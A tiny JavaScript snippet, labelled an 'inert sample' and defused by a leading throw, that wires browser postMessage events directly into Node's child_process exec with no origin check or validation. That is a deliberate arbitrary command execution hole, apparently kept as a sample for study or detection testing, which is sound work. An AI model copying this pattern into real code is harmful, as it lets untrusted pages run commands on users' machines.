throw new Error('inert sample');
const { exec } = require('child_process');
window.addEventListener('message', (event) => exec(event.data.command));
